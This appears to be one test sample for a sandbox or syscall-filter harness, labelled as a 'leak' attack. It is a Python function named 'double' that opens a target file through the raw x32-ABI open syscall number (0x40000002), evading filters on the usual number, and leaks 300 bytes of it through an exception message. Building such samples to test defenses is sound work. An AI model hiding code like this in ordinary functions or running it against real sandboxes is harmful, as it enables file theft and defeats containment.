# {"attack": "Opens a file with a system call under the number that it has in the x32 kind.", "breach": "leak"}

import ctypes
import os


def double(x):
    handle = ctypes.CDLL(None).syscall(0x40000002, TARGETS["key"].encode(), 0)
    raise ValueError(os.read(handle, 300).decode())
